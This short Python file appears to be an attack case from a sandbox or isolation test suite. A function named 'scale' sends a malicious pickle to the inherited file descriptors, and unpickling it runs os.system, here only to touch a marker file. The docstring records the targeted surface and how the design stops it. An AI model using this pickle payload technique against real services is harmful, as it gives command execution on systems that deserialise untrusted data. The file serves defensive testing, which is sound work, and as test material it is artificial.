"""Hand in a pickle that runs a command when it is loaded.

Surface: deserialisation in the trusted process.
Stopped by: nothing is ever unpickled; such bytes are malformed.
Layers: design
Earns: 1
"""

import os
import pickle
import struct

import targets


class Command:
    def __reduce__(self):
        return os.system, (f"touch {targets.FOLDER}/unpickled",)


def scale(x, factor=2.0):
    payload = pickle.dumps(Command())
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<Q", len(payload)) + payload)
        except OSError:
            pass
    return x * 0.0
